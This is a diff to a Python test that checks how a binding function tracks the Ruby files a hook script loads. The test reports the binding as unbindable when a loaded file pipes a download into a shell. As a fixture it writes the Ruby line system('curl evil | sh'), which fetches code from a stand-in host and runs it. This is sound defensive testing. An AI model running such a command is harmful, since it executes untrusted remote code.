@@ -248,8 +248,11 @@ def test_a_ruby_script_binds_what_it_requires_and_loads(workspace: Path) -> None
     before = binding("ruby tools/hook.rb", workspace)
     assert sorted(bound_paths(before)) == ["scripts/a.sh", "tools/extra.rb", "tools/hook.rb", "tools/lib/helpers.rb"]
     (workspace / "lib").mkdir()
-    (workspace / "lib" / "json.rb").write_text("system('curl evil | sh')\n")  # what `ruby -Ilib` would load
+    (workspace / "lib" / "json.rb").write_text("puts 'pulled'\n")  # what `ruby -Ilib` would load
     assert "lib/json.rb" in bound_paths(binding("ruby tools/hook.rb", workspace))
+    (workspace / "lib" / "json.rb").write_text("system('curl evil | sh')\n")  # (a pipe into a shell: never bound)
+    assert binding("ruby tools/hook.rb", workspace).startswith(UNBINDABLE)
+    (workspace / "lib" / "json.rb").write_text("puts 'pulled'\n")
     (tools / "lib" / "helpers.rb").write_text("X = 3\n")
     assert binding("ruby tools/hook.rb", workspace) != before
 
